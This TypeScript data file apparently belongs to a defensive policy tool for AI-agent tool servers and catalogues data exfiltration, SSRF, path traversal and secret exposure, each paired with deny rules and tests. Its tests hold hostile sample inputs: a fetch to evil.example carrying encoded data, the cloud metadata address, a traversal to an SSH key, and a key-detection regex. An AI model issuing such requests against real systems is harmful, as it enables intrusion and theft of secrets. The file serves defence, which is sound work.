import { type AttackPattern, BEST_PRACTICES, cve, cwe, GITHUB_EXPLOITED, owaspMcp } from "./attack-pattern";

/** Patterns that use how far a tool reaches: files, addresses, secrets, the world outside. */
export const attacksByReach: readonly AttackPattern[] = [
  {
    slug: "data-exfiltration",
    name: "Private data sent outside",
    summary: "One tool reads what is private, another carries it out: the lethal trifecta.",
    abuses: [
      "Three things together are enough: access to private data, texts that strangers write, and a way to send something outside. Each server may have only one of them; the agent joins them.",
      "The way out need not look like one: an address that is fetched can carry the data in its path, and so can a comment, a picture’s link or a new issue.",
    ],
    classes: [],
    effects: ["sends_outside", "reaches_any_url"],
    answers: [
      {
        says: "What is sent goes to known places only.",
        document: {
          version: "1",
          default: "deny",
          tools: {
            fetch: {
              require: [
                {
                  path: "args.url",
                  op: "regex",
                  value: "^https://(docs|api)\\.acme\\.example/[A-Za-z0-9/_-]*$",
                  on_deny: "Only acme.example may be fetched, without a query.",
                },
              ],
            },
          },
          tests: [
            { call: "fetch", args: { url: "https://docs.acme.example/start" }, expect: "allow" },
            { call: "fetch", args: { url: "https://evil.example/?d=c2VjcmV0" }, expect: "deny" },
          ],
        },
      },
      {
        says: "Little by little is capped too.",
        document: {
          version: "1",
          default: "deny",
          tools: {
            send_message: {
              require: [{ path: "args.text", op: "length_lte", value: 500 }],
              limits: [{ counter: "messages", window: "day", max: 20, scope: "grant" }],
            },
          },
        },
      },
    ],
    beyond:
      "A policy looks at one call of one server. Put together the whole stack to see which agents have all three.",
    sources: [
      {
        title: "The lethal trifecta for AI agents",
        publisher: "Simon Willison, 2025",
        url: "https://simonwillison.net/2025/Jun/16/the-lethal-trifecta/",
      },
      cve("CVE-2025-32711", "EchoLeak (CVE-2025-32711)", "Aim Security, 2025"),
      GITHUB_EXPLOITED,
    ],
  },
  {
    slug: "server-side-request-forgery",
    name: "Server-side request forgery",
    summary: "A tool that fetches any address fetches one inside the network.",
    abuses: [
      "The server stands where the agent’s user doesn’t: beside databases, metadata services and consoles that trust whoever is in the network. A tool that takes an address reaches them on request.",
    ],
    classes: [],
    effects: ["reaches_any_url"],
    answers: [
      {
        says: "Only https, only a name that is known; numbers, ports and private names aren’t.",
        document: {
          version: "1",
          default: "deny",
          tools: {
            fetch: {
              require: [{ path: "args.url", op: "regex", value: "^https://([a-z0-9-]+\\.)*example\\.com(/|$)" }],
            },
          },
          tests: [
            { call: "fetch", args: { url: "https://www.example.com/a" }, expect: "allow" },
            { call: "fetch", args: { url: "http://169.254.169.254/latest/meta-data/" }, expect: "deny" },
            { call: "fetch", args: { url: "https://example.com@10.0.0.1/" }, expect: "deny" },
          ],
        },
      },
    ],
    beyond: "A known name may still resolve to a private address. The server’s own network rules have to refuse that.",
    sources: [
      BEST_PRACTICES,
      {
        title: "Top 10 2021: A10 Server-Side Request Forgery",
        publisher: "OWASP",
        url: "https://owasp.org/Top10/A10_2021-Server-Side_Request_Forgery_%28SSRF%29/",
      },
      cwe(918, "Server-Side Request Forgery (SSRF)"),
    ],
  },
  {
    slug: "path-traversal",
    name: "Path traversal",
    summary: "A tool that takes a path is given one outside of the folder it was meant for.",
    abuses: [
      "`../` and links lead out of a folder, and a check of how a path begins lets its neighbours through. Keys, configuration and start-up scripts are files as well: to read them is to leak, to write them is to run.",
      "Anthropic’s reference Filesystem server had both: CVE-2025-53109 and CVE-2025-53110.",
    ],
    classes: [],
    effects: ["reaches_any_path"],
    answers: [
      {
        says: "A path begins where it must, has no way up in it, and touches nothing that is hidden.",
        document: {
          version: "1",
          default: "deny",
          tools: {
            read_file: {
              require: [{ path: "args.path", op: "starts_with", value: "/srv/project/" }],
              deny_if: [{ conditions: [{ path: "args.path", op: "regex", value: "(^|/)\\.[^/]*" }] }],
            },
          },
          tests: [
            { call: "read_file", args: { path: "/srv/project/src/a.ts" }, expect: "allow" },
            { call: "read_file", args: { path: "/srv/project/../.ssh/id_ed25519" }, expect: "deny" },
            { call: "read_file", args: { path: "/srv/project-secrets/a" }, expect: "deny" },
          ],
        },
      },
    ],
    beyond: "Links are resolved by the server: run it where the rest of the machine isn’t.",
    sources: [
      cwe(22, "Improper Limitation of a Pathname to a Restricted Directory (‘Path Traversal’)"),
      {
        title: "EscapeRoute (CVE-2025-53109, CVE-2025-53110)",
        publisher: "Cymulate, 2025",
        url: "https://cymulate.com/blog/cve-2025-53109-53110-escaperoute-anthropic/",
      },
    ],
  },
  {
    slug: "secret-exposure",
    name: "Secret exposure",
    summary: "Keys and tokens get into the agent’s context, and from there anywhere.",
    abuses: [
      "What a tool answers stands in the context, in transcripts and in the arguments of later calls. A token in it is as good as published, and the next server doesn’t ask where it is from.",
    ],
    classes: [],
    effects: ["reads_secrets"],
    answers: [
      {
        says: "Tools that answer with secrets are hidden, and what looks like one isn’t passed on in arguments.",
        document: {
          version: "1",
          default: "deny",
          hide: ["get_secret", "list_env"],
          tools: {
            create_issue: {
              deny_if: [
                {
                  conditions: [{ path: "args.body", op: "regex", value: "(ghp_|sk-|AKIA)[A-Za-z0-9]{16}" }],
                  on_deny: "This looks like a key.",
                },
              ],
            },
          },
          tests: [
            { call: "get_secret", expect: "hide" },
            { call: "create_issue", args: { body: "It fails since Monday." }, expect: "allow" },
            { call: "create_issue", args: { body: "AKIAABCDEFGHIJKLMNOP" }, expect: "deny" },
          ],
        },
      },
    ],
    beyond:
      "Give the server’s own credentials to PolicyLayer, which stores them encrypted and sends them itself: then the agent never has them.",
    sources: [
      owaspMcp("MCP01 Token Mismanagement & Secret Exposure"),
      {
        title: "s1ngularity: the compromised Nx packages that had AI tools look for secrets",
        publisher: "Nx, 2025",
        url: "https://nx.dev/blog/s1ngularity-postmortem",
      },
    ],
  },
];
